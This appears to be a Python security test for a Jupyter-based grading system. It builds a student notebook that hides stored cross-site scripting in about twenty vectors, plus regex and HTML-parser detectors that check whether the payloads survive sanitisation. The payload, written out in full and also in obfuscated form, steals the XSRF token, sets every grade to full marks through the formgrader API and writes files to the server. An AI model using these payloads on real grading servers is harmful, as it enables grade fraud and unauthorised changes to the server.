"""Stored script injection: a submission whose outputs and markdown carry scripts.

Every vector runs the same payload, tagged with the vector's name: it records
itself in ``window.top.__rnncourse_pwned`` and, in a Jupyter page (the
formgrader, in the instructor's session), gives every grade of the submission
its full marks through the formgrader's API and writes ``pwned-<vector>.txt``
into the server's root through the contents API. The notebook also shows
honest output (a line of text, a plot, a pandas-like table) that must still be
displayed.
"""

import json
import re

FLAG = "__rnncourse_pwned"
HONEST_TEXT = "HONEST OUTPUT 4242"
TABLE_CELL = "honest-table-cell"
PWNED_FILE = "pwned-"


def payload_js(vector):
    """The JavaScript that every vector runs (plain ES5, no ``$``)."""
    return ("(function(){var w=window.top||window;(w.%(flag)s=w.%(flag)s||[]).push(%(v)s);"
            "if(location.protocol.indexOf('http')!==0)return;"
            "var m=document.cookie.match(/_xsrf=([^;]+)/);"
            "var h={'X-XSRFToken':m?decodeURIComponent(m[1]):'','Content-Type':'application/json'};"
            "var base=location.pathname.split('/formgrader')[0];"
            "fetch(base+'/api/contents/%(file)s'+%(v)s+'.txt',{method:'PUT',headers:h,credentials:'same-origin',"
            "body:JSON.stringify({type:'file',format:'text',content:'pwned'})});"
            "var sid=(location.pathname.split('/submissions/')[1]||'').split('/')[0];"
            "fetch(base+'/formgrader/api/grades?submission_id='+sid,{headers:h,credentials:'same-origin'})"
            ".then(function(r){return r.json();}).then(function(gs){gs.forEach(function(g){"
            "fetch(base+'/formgrader/api/grade/'+g.id,{method:'PUT',headers:h,credentials:'same-origin',"
            "body:JSON.stringify({manual_score:g.max_score})});});});})();"
            ) % {"flag": FLAG, "v": json.dumps(vector), "file": PWNED_FILE}


def run_js(vector):
    """An expression that runs the payload, made of letters, digits, ``%().`` and ``/`` only.

    It fits any attribute, URL or markdown link without quoting.
    """
    encoded = "".join("%%%02x" % b for b in payload_js(vector).encode())
    return "eval(decodeURIComponent(/%s/.source))" % encoded


_PNG = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==")


def carrier_code():
    """Code of the solution cell that carries the outputs (it defines nothing)."""
    r = run_js
    bundles = [
        ("html-script", {"text/html": f"<b>bold</b><script>{payload_js('html-script')}</script>"}, {}),
        ("html-img-onerror", {"text/html": f'<img src="missing.png" onerror="{r("html-img-onerror")}">'}, {}),
        ("html-svg", {"text/html": f'<svg onload="{r("html-svg")}"><script>{payload_js("html-svg-script")}'
                                   '</script></svg>'}, {}),
        ("html-iframe", {"text/html": f'<iframe srcdoc="<img src=x onerror={r("html-iframe")}>">'
                                      '</iframe>'}, {}),
        ("html-style", {"text/html": '<style>body{background:url(https://example.invalid/x)}</style>'
                                     f'<a href="javascript:{r("html-href")}">a link</a>'}, {}),
        ("javascript", {"application/javascript": payload_js("javascript")}, {}),
        ("mermaid", {"text/vnd.mermaid": f'graph TD\n<img src=x onerror="{r("mermaid")}">'}, {}),
        ("markdown-output", {"text/markdown": f'<img src=x onerror="{r("markdown-output")}">'
                                              f' [link](javascript:{r("markdown-output-link")})'}, {}),
        ("svg-image", {"image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg" onload="'
                                        f'{r("svg-image")}"><script>{payload_js("svg-image-script")}'
                                        '</script></svg>'}, {}),
        ("widget", {"application/vnd.jupyter.widget-view+json": {"model_id": "x", "version_major": 2,
                                                                 "version_minor": 0}}, {}),
        ("png-metadata", {"image/png": _PNG}, {"image/png": {"width": f'1 onerror="{r("png-metadata")}"'}}),
        ("png-not-base64", {"image/png": f'" onerror="{r("png-not-base64")}'}, {}),
    ]
    lines = ["from IPython.display import display", ""]
    for vector, data, meta in bundles:
        data = dict(data, **{"text/plain": f"output {vector}"})
        lines.append(f"display({data!r}, metadata={meta!r}, raw=True)")
    return "\n".join(lines) + "\n"


HONEST_CODE = f'''
import matplotlib.pyplot as plt
from IPython.display import HTML, display

print({HONEST_TEXT!r})
plt.figure(figsize=(4, 3))
plt.plot([0, 1, 2], [0, 1, 4])
plt.title("honest plot")
plt.show()
display(HTML("""<div>
<style scoped>
    .dataframe tbody tr th:only-of-type {{ vertical-align: middle; }}
</style>
<table border="1" class="dataframe">
  <thead><tr style="text-align: right;"><th></th><th>loss</th></tr></thead>
  <tbody><tr><th>0</th><td>{TABLE_CELL}</td></tr></tbody>
</table>
</div>"""))
'''

MARKDOWN = (
    "My notes: **bold**, *italic*, `code`, and a [safe link](https://numpy.org).\n\n"
    f"<script>{payload_js('markdown-script')}</script>\n\n"
    f'<img src="x" onerror="{run_js("markdown-img")}">\n\n'
    f"[click me](javascript:{run_js('markdown-link')})\n\n"
    f'<iframe srcdoc="<img src=x onerror={run_js("markdown-iframe")}>"></iframe>\n\n'
    f'<details open ontoggle="{run_js("markdown-details")}"><summary>s</summary>d</details>\n'
)

RAW = f"<script>{payload_js('raw-cell')}</script><img src=x onerror=\"{run_js('raw-cell-img')}\">"


def build(ctx):
    """The hostile notebook: honest functions, the carrier, a markdown and a raw cell, honest output."""
    from .cases import CARRIER, dump

    sources = ctx.honest()
    sources[CARRIER] = carrier_code()
    nb = ctx.fill(sources)
    nb["cells"] += [
        {"cell_type": "markdown", "metadata": {}, "source": MARKDOWN},
        {"cell_type": "raw", "metadata": {"format": "text/html"}, "source": RAW},
        {"cell_type": "code", "metadata": {"tags": ["honest"]}, "execution_count": None, "outputs": [],
         "source": HONEST_CODE},
    ]
    nb["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {
        "state": {}, "version_major": 2, "version_minor": 0}}
    return ctx.files(dump(nb))


_ACTIVE = [
    ("<script", re.compile(r"<script", re.I)),
    ("event handler", re.compile(r"\bon(error|load|toggle|mouseover)\s*=", re.I)),
    ("javascript: URL", re.compile(r"javascript:", re.I)),
    ("<iframe", re.compile(r"<iframe", re.I)),
    ("<svg", re.compile(r"<svg", re.I)),
    ("<style", re.compile(r"<style", re.I)),
]
_DROPPED_KINDS = ("application/javascript", "text/vnd.mermaid", "application/vnd.jupyter.widget-view+json",
                  "application/vnd.jupyter.widget-state+json")


def active_content(notebook_text):
    """What of the payloads an (autograded) notebook still holds where a renderer would use it.

    Looks at markdown and raw sources, output bundles (not ``text/plain``,
    which every renderer escapes), output metadata and notebook metadata.
    """
    try:
        nb = json.loads(notebook_text)
    except (TypeError, ValueError):
        return []
    found = set()

    def scan(text):
        for label, pattern in _ACTIVE:
            if pattern.search(text):
                found.add(label)

    scan(json.dumps(nb.get("metadata", {})))
    if "widgets" in nb.get("metadata", {}):
        found.add("widget state")
    for cell in nb.get("cells", []):
        if cell.get("cell_type") in ("markdown", "raw"):
            source = cell.get("source", "")
            scan("".join(source) if isinstance(source, list) else source)
        for out in cell.get("outputs", []):
            scan(json.dumps(out.get("metadata", {})))
            for mime, value in (out.get("data") or {}).items():
                if mime in _DROPPED_KINDS:
                    found.add(mime)
                elif mime not in ("text/plain", "image/svg+xml"):  # escaped / shown as <img>
                    scan(json.dumps(value))
    return sorted(found)


def active_html(page):
    """What in a rendered page (feedback HTML) a browser would run, parsed as a browser parses it.

    Script elements that name ``FLAG``, event-handler attributes, ``javascript:`` links
    and frames; text (such as the highlighted source of a code cell) does not count.
    """
    from bleach._vendor import html5lib

    found = set()
    for el in html5lib.parse(page, treebuilder="etree", namespaceHTMLElements=False).iter():
        if not isinstance(el.tag, str):
            continue
        tag = el.tag.rsplit("}", 1)[-1].lower()
        if tag == "script" and FLAG in (el.text or "") + "".join(el.itertext()):
            found.add("<script> payload")
        if tag in ("iframe", "frame", "object", "embed"):
            found.add(f"<{tag}>")
        for name, value in el.attrib.items():
            name = str(name).lower()
            if name.startswith("on") and ("eval(" in value or FLAG in value):
                found.add("event handler payload")
            url = value.strip().lower()
            if name in ("href", "src", "action", "formaction") and url.startswith("javascript:"):
                found.add("javascript: URL")
    return sorted(found)
